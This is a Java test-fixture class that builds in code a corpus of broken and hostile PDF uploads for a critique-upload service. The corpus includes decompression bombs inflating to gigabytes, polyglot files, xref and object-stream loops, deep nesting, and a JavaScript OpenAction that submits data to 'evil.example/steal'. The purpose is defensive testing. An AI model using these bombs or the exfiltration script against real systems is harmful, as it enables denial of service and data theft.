package org.paperclub.support;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.function.IntUnaryOperator;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Broken and hostile upload files, every one made in code (no binary files in the repository). {@link #corpus()}
 * holds the files that a critique upload must refuse; {@link #acceptable()} holds hostile files that are still
 * real one-page PDFs, so that refusing them is not the point (their danger lies elsewhere, e.g. JavaScript).
 */
public final class HostilePdfs {

    private HostilePdfs() {
    }

    /** Files every critique upload must refuse (4xx), name → bytes, in a stable order. */
    public static Map<String, byte[]> corpus() {
        Map<String, byte[]> c = new LinkedHashMap<>();
        // Not PDFs at all.
        c.put("empty file", new byte[0]);
        c.put("random bytes", random(64 * 1024, 1));
        c.put("text file renamed .pdf", "Dear professor,\nhere is my critique of the paper.\nIt was saved as critique.pdf from a text editor.\n"
                .getBytes(StandardCharsets.UTF_8));
        c.put("only the header %PDF-1.7", latin1("%PDF-1.7"));
        c.put("PDF header followed by binary noise", concat(latin1("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n"), random(200 * 1024, 2)));
        c.put("polyglot: JPEG with a PDF inside", jpegThenPdf());
        c.put("polyglot: HTML page with a PDF inside", concat(latin1("<!DOCTYPE html><html><body><script>alert(document.cookie)</script>\n"),
                onePage(STREAM_TEXT), latin1("</body></html>\n")));
        c.put("polyglot: %PDF- header on a ZIP archive", concat(latin1("%PDF-1.7\n"), zip()));
        // Broken structure.
        c.put("truncated mid-object", truncatedMidObject());
        c.put("object number overflow (99999999999 0 obj)", objectNumberOverflow());
        c.put("object stream that contains itself", objectStreamLoop(true));
        c.put("object stream chain that never ends (A in B, B in A)", objectStreamLoop(false));
        c.put("Pages /Count 2147483647", new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                stream("", STREAM_TEXT))).build());
        c.put("Pages tree whose node is its own kid", new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                stream("", STREAM_TEXT))).build());
        c.put("Pages /Count 1 over two real pages (a 2-page critique declared as 1)", new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
                        + " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                stream("", STREAM_TEXT),
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
                        + " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>")).build());
        c.put("Pages tree loop through two nodes", new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")).build());
        c.put("100 000 nested dictionaries", nested("<< /A ", " >>", 100_000));
        c.put("100 000 nested arrays", nested("[", "]", 100_000));
        // Hostile content. The bombs' zeros are whitespace to a content parser: only decoding them costs.
        c.put("FlateDecode bomb (4 MB inflating to 4 GB of zeros)", bomb("/FlateDecode", deflatedZeros(4L << 30)));
        c.put("FlateDecode+RunLengthDecode bomb (~30 KB inflating to 2 GB)", bomb("[/FlateDecode /RunLengthDecode]", deflate(runLengthZeros(2L << 30))));
        // PDFBox 3 drops a repeated filter ("Removed duplicated filter entries") and so reads this one only once:
        // the page's content is then 2 MB of compressed bytes. Readers that apply both filters inflate 2 GB.
        c.put("FlateDecode applied twice (5 KB inflating to 2 MB, then 2 GB)", bomb("[/FlateDecode /FlateDecode]", deflate(deflatedZeros(2L << 30))));
        c.put("MediaBox [0 0 1e30 1e30]", new Raw(pageObjects(STREAM_TEXT, "[0 0 1e30 1e30]")).build());
        c.put("MediaBox negative and absurd [0 0 -99999 -99999]", new Raw(pageObjects(STREAM_TEXT, "[0 0 -99999 -99999]")).build());
        // Refused for what they are.
        c.put("/Encrypt with an unknown filter", encryptUnknownFilter());
        c.put("encrypted with a user password", pdfbox(1, "user-password"));
        c.put("3 pages", pdfbox(3, null));
        c.put("5 000 small pages", pdfbox(5_000, null));
        c.put("6 MB: a good page padded past the course limit (5 MB)", padded(TestPdfs.goodCritique(), 6 * 1024 * 1024));
        c.put("12 MB: past the server's request limit (10 MB)", padded(TestPdfs.goodCritique(), 12 * 1024 * 1024));
        return c;
    }

    /**
     * Hostile or damaged files that are nevertheless one-page PDFs as every reader sees them: accepted, stored as
     * bytes, never interpreted. A broken cross-reference table or stream /Length is what PDFBox, like any PDF
     * reader, repairs by scanning the file; refusing those would refuse critiques that open fine everywhere. An
     * unterminated string leaves a blank page, which gets the "no text" warning as a scan does.
     */
    public static Map<String, byte[]> acceptable() {
        Map<String, byte[]> c = new LinkedHashMap<>();
        c.put("malformed xref (garbage offsets)", new Raw(pageObjects(STREAM_TEXT, "[0 0 612 792]")).offsets(n -> 7 + n * 104_729 % 5_000).build());
        c.put("missing xref and trailer", new Raw(pageObjects(STREAM_TEXT, "[0 0 612 792]")).noXrefNoTrailer().build());
        c.put("startxref past the end of the file", new Raw(pageObjects(STREAM_TEXT, "[0 0 612 792]")).startxref(987_654_321L).build());
        c.put("xref entries pointing past the end", new Raw(pageObjects(STREAM_TEXT, "[0 0 612 792]")).offsets(n -> n == 0 ? 0 : 1_500_000_000 + n).build());
        c.put("xref subsection declaring 2147483647 entries", xrefHugeSubsection());
        c.put("stream /Length far larger than the file", streamLengthTooLarge());
        c.put("stream /Length that refers to itself", streamLengthSelfReference());
        c.put("content stream with an unterminated string", onePage("BT /F1 11 Tf 72 700 Td (Summary of the paper, and then the string never ends ET\n"));
        c.put("JavaScript OpenAction", new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
                        + " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                stream("", STREAM_TEXT),
                "<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/steal'\\);) >>")).build());
        return c;
    }

    // ---------------------------------------------------------------------------------------------------------
    // Raw PDF assembly: objects are numbered 1..n in order; offsets, xref and trailer can each be broken.

    /** A one-page text content: two short paragraphs, so that only the breakage can be the reason for a refusal. */
    static final String STREAM_TEXT = "BT /F1 11 Tf 14 TL 72 720 Td (Summary. The paper studies attention as the mechanism of a model.) Tj T* T*"
            + " (Critique. The experiments leave open whether the gains come from scale or from the method.) Tj ET\n";

    private static List<String> pageObjects(String content, String mediaBox) {
        return List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox " + mediaBox + " /Contents 4 0 R"
                        + " /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
                stream("", content));
    }

    private static byte[] onePage(String content) {
        return new Raw(pageObjects(content, "[0 0 612 792]")).build();
    }

    private static String stream(String extraEntries, String content) {
        return "<< /Length " + content.length() + extraEntries + " >>\nstream\n" + content + "\nendstream";
    }

    /** A classic PDF: header, objects, xref table, trailer; each part can be replaced by a broken form. */
    static final class Raw {
        private final List<String> objects;
        private String header = "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n";
        private IntUnaryOperator offsetOverride;
        private Long startxref;
        private boolean noXref;
        private String trailerExtra = "";

        Raw(List<String> objects) {
            this.objects = new ArrayList<>(objects);
        }

        Raw offsets(IntUnaryOperator byObjectNumber) {
            this.offsetOverride = byObjectNumber;
            return this;
        }

        Raw startxref(long at) {
            this.startxref = at;
            return this;
        }

        Raw noXrefNoTrailer() {
            this.noXref = true;
            return this;
        }

        Raw trailer(String extra) {
            this.trailerExtra = extra;
            return this;
        }

        byte[] build() {
            StringBuilder out = new StringBuilder(header);
            long[] offsets = new long[objects.size() + 1];
            for (int i = 0; i < objects.size(); i++) {
                offsets[i + 1] = out.length();
                out.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
            }
            if (noXref) {
                return latin1(out.append("%%EOF\n").toString());
            }
            long xref = out.length();
            out.append("xref\n0 ").append(offsets.length).append('\n');
            for (int n = 0; n < offsets.length; n++) {
                long offset = offsetOverride != null ? offsetOverride.applyAsInt(n) : offsets[n];
                out.append(String.format(Locale.ROOT, "%010d %05d %c \n", offset, n == 0 ? 65535 : 0, n == 0 ? 'f' : 'n'));
            }
            out.append("trailer\n<< /Size ").append(offsets.length).append(" /Root 1 0 R").append(trailerExtra).append(" >>\n")
                    .append("startxref\n").append(startxref != null ? startxref : xref).append("\n%%EOF\n");
            return latin1(out.toString());
        }
    }

    private static byte[] xrefHugeSubsection() {
        String body = new String(onePage(STREAM_TEXT), StandardCharsets.ISO_8859_1);
        return latin1(body.replaceFirst("xref\n0 5\n", "xref\n0 2147483647\n")
                .replaceFirst("/Size 5", "/Size 2147483647"));
    }

    private static byte[] objectNumberOverflow() {
        String body = new String(onePage(STREAM_TEXT), StandardCharsets.ISO_8859_1);
        // The page object renumbered past int and long-ish ranges, and referenced under that number.
        return latin1(body.replace("3 0 obj", "99999999999 0 obj").replace("[3 0 R]", "[99999999999 0 R]")
                .replace("/Size 5", "/Size 99999999999"));
    }

    private static byte[] streamLengthTooLarge() {
        List<String> objects = new ArrayList<>(pageObjects(STREAM_TEXT, "[0 0 612 792]"));
        // No endstream either: the parser has nothing but the declared length to go by.
        objects.set(3, "<< /Length 9999999999 >>\nstream\n" + STREAM_TEXT);
        return new Raw(objects).build();
    }

    private static byte[] streamLengthSelfReference() {
        List<String> objects = new ArrayList<>(pageObjects(STREAM_TEXT, "[0 0 612 792]"));
        objects.set(3, "<< /Length 5 0 R >>\nstream\n" + STREAM_TEXT + "\nendstream");
        objects.add("5 0 R");
        return new Raw(objects).build();
    }

    private static byte[] encryptUnknownFilter() {
        List<String> objects = new ArrayList<>(pageObjects(STREAM_TEXT, "[0 0 612 792]"));
        objects.add("<< /Filter /RotThirteen /SubFilter /adbe.pkcs7.s5 /V 7 /R 9 /Length 256 /O <00> /U <00> /P -4 >>");
        return new Raw(objects).trailer(" /Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]").build();
    }

    /**
     * A PDF 1.5 file with an xref stream whose compressed objects live in object streams that cannot be reached:
     * either the object stream 4 is listed as stored inside itself, or object stream 4 lives in 6 and 6 in 4 (each
     * also /Extends the other). The catalog and pages are only in those object streams.
     */
    private static byte[] objectStreamLoop(boolean self) {
        StringBuilder out = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        String members = "1 0 2 38 ";
        String inner = "<< /Type /Catalog /Pages 2 0 R >>    \n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\n";
        long[] offsets = new long[8];
        offsets[3] = out.length();
        out.append("3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n");
        offsets[4] = out.length();
        String stm4 = members + inner;
        out.append("4 0 obj\n<< /Type /ObjStm /N 2 /First ").append(members.length())
                .append(self ? "" : " /Extends 6 0 R").append(" /Length ").append(stm4.length()).append(" >>\nstream\n")
                .append(stm4).append("\nendstream\nendobj\n");
        offsets[6] = out.length();
        String stm6 = members + inner;
        out.append("6 0 obj\n<< /Type /ObjStm /N 2 /First ").append(members.length()).append(" /Extends 4 0 R /Length ")
                .append(stm6.length()).append(" >>\nstream\n").append(stm6).append("\nendstream\nendobj\n");
        long xrefAt = out.length();
        // /W [1 4 2]: type, field 2 (offset or object stream number), field 3 (generation or index).
        ByteArrayOutputStream rows = new ByteArrayOutputStream();
        row(rows, 0, 0, 65535);
        row(rows, 2, 4, 0);                  // 1: catalog in object stream 4
        row(rows, 2, 4, 1);                  // 2: pages in object stream 4
        row(rows, 1, offsets[3], 0);         // 3: page
        if (self) {
            row(rows, 2, 4, 2);              // 4: the object stream is inside itself
            row(rows, 0, 0, 0);
            row(rows, 1, offsets[6], 0);
        } else {
            row(rows, 2, 6, 0);              // 4: inside 6 ...
            row(rows, 0, 0, 0);
            row(rows, 2, 4, 2);              // 6: ... which is inside 4
        }
        row(rows, 1, xrefAt, 0);             // 7: the xref stream
        String data = rows.toString(StandardCharsets.ISO_8859_1);
        out.append("7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length ").append(data.length()).append(" >>\nstream\n")
                .append(data).append("\nendstream\nendobj\nstartxref\n").append(xrefAt).append("\n%%EOF\n");
        return latin1(out.toString());
    }

    private static void row(ByteArrayOutputStream out, int type, long field2, int field3) {
        out.write(type);
        out.write((int) (field2 >>> 24));
        out.write((int) (field2 >>> 16));
        out.write((int) (field2 >>> 8));
        out.write((int) field2);
        out.write(field3 >>> 8);
        out.write(field3);
    }

    /** {@code open} repeated {@code depth} times, a null, then {@code close} as many times, as the catalog's /Deep. */
    private static byte[] nested(String open, String close, int depth) {
        StringBuilder deep = new StringBuilder(depth * (open.length() + close.length()) + 8);
        deep.append(open.repeat(depth)).append("null").append(close.repeat(depth));
        return new Raw(List.of(
                "<< /Type /Catalog /Pages 2 0 R /Deep " + deep + " >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                stream("", STREAM_TEXT))).build();
    }

    /**
     * A one-page PDF whose content stream is {@code encoded} under {@code filter}: a decompression bomb. The zeros
     * it inflates to are whitespace to a content parser, so that only the decoding itself costs.
     */
    private static byte[] bomb(String filter, byte[] encoded) {
        List<String> objects = List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>");
        StringBuilder head = new StringBuilder("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n");
        long[] offsets = new long[5];
        for (int i = 0; i < objects.size(); i++) {
            offsets[i + 1] = head.length();
            head.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        offsets[4] = head.length();
        head.append("4 0 obj\n<< /Length ").append(encoded.length).append(" /Filter ").append(filter).append(" >>\nstream\n");
        ByteArrayOutputStream out = new ByteArrayOutputStream(encoded.length + 1024);
        out.writeBytes(latin1(head.toString()));
        out.writeBytes(encoded);
        out.writeBytes(latin1("\nendstream\nendobj\n"));
        long xref = out.size();
        StringBuilder tail = new StringBuilder("xref\n0 5\n");
        for (int n = 0; n < 5; n++) {
            tail.append(String.format(Locale.ROOT, "%010d %05d %c \n", offsets[n], n == 0 ? 65535 : 0, n == 0 ? 'f' : 'n'));
        }
        tail.append("trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        out.writeBytes(latin1(tail.toString()));
        return out.toByteArray();
    }

    /**
     * A zlib stream of {@code size} zeros (a multiple of 1 MiB), made without deflating them all: each MiB is
     * compressed after a full flush, so every MiB after the first compresses to the same bytes, which are repeated;
     * the Adler-32 of n zeros is (n mod 65521) << 16 | 1.
     */
    static byte[] deflatedZeros(long size) {
        int chunk = 1 << 20;
        if (size % chunk != 0 || size < 3L * chunk) {
            throw new IllegalArgumentException("a multiple of 1 MiB, at least 3 MiB");
        }
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        try {
            byte[] zeros = new byte[chunk];
            byte[] first = flushed(deflater, zeros);
            byte[] steady = flushed(deflater, zeros);
            if (!Arrays.equals(steady, flushed(deflater, zeros))) {
                throw new IllegalStateException("deflate output of zeros is not periodic after a full flush");
            }
            deflater.finish();
            ByteArrayOutputStream end = new ByteArrayOutputStream();
            byte[] buffer = new byte[1024];
            while (!deflater.finished()) {
                end.write(buffer, 0, deflater.deflate(buffer));
            }
            byte[] tail = end.toByteArray(); // the final empty block, then the Adler-32 of 3 MiB, replaced below
            long count = size / chunk;
            ByteArrayOutputStream out = new ByteArrayOutputStream((int) (first.length + (count - 1) * steady.length + tail.length));
            out.writeBytes(first);
            for (long i = 1; i < count; i++) {
                out.writeBytes(steady);
            }
            long adler = (size % 65521) << 16 | 1;
            tail[tail.length - 4] = (byte) (adler >>> 24);
            tail[tail.length - 3] = (byte) (adler >>> 16);
            tail[tail.length - 2] = (byte) (adler >>> 8);
            tail[tail.length - 1] = (byte) adler;
            out.writeBytes(tail);
            return out.toByteArray();
        } finally {
            deflater.end();
        }
    }

    private static byte[] flushed(Deflater deflater, byte[] input) {
        deflater.setInput(input);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[1 << 16];
        int n;
        do {
            n = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
            out.write(buffer, 0, n);
        } while (n == buffer.length || !deflater.needsInput());
        return out.toByteArray();
    }

    /** RunLengthDecode of {@code size} zeros: runs of 128 (length byte 129, then the byte), then end of data. */
    private static byte[] runLengthZeros(long size) {
        int runs = Math.toIntExact(size / 128);
        byte[] out = new byte[runs * 2 + 1];
        for (int i = 0; i < runs; i++) {
            out[2 * i] = (byte) 129;
        }
        out[out.length - 1] = (byte) 128;
        return out;
    }

    private static byte[] deflate(byte[] data) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        try {
            deflater.setInput(data);
            deflater.finish();
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[1 << 16];
            while (!deflater.finished()) {
                out.write(buffer, 0, deflater.deflate(buffer));
            }
            return out.toByteArray();
        } finally {
            deflater.end();
        }
    }

    private static byte[] truncatedMidObject() {
        byte[] whole = onePage(STREAM_TEXT);
        String s = new String(whole, StandardCharsets.ISO_8859_1);
        int cut = s.indexOf("3 0 obj") + 40; // inside the page dictionary
        return Arrays.copyOf(whole, cut);
    }

    private static byte[] jpegThenPdf() {
        // SOI, an APP0/JFIF segment, a COM segment that carries a whole PDF, then EOI.
        byte[] pdf = onePage(STREAM_TEXT);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0});
        int len = pdf.length + 2;
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) (len >>> 8), (byte) len});
        out.writeBytes(pdf);
        out.writeBytes(new byte[] {(byte) 0xFF, (byte) 0xD9});
        return out.toByteArray();
    }

    private static byte[] zip() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("critique.docx/word/document.xml"));
            zip.write("<w:document><w:body><w:p><w:r><w:t>My critique</w:t></w:r></w:p></w:body></w:document>"
                    .getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("payload.exe"));
            zip.write(random(4096, 3));
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** {@code count} empty US Letter pages made by PDFBox, optionally protected with a user password. */
    private static byte[] pdfbox(int count, String userPassword) {
        if (count == 1 && userPassword != null) {
            return encryptedGood(userPassword);
        }
        try (PDDocument doc = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (int p = 0; p < count; p++) {
                doc.addPage(new PDPage(PDRectangle.LETTER));
            }
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The good critique protected with an AES-256 user password. */
    private static byte[] encryptedGood(String userPassword) {
        try (PDDocument doc = org.apache.pdfbox.Loader.loadPDF(TestPdfs.goodCritique()); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-" + userPassword, userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(256);
            doc.protect(policy);
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A good PDF followed by a comment of filler up to {@code size} bytes (incremental junk after %%EOF). */
    private static byte[] padded(byte[] pdf, int size) {
        byte[] out = Arrays.copyOf(pdf, size);
        Arrays.fill(out, pdf.length, size, (byte) ' ');
        out[pdf.length] = '%';
        return out;
    }

    private static byte[] random(int size, long seed) {
        byte[] b = new byte[size];
        new Random(seed).nextBytes(b);
        return b;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static byte[] latin1(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }
}
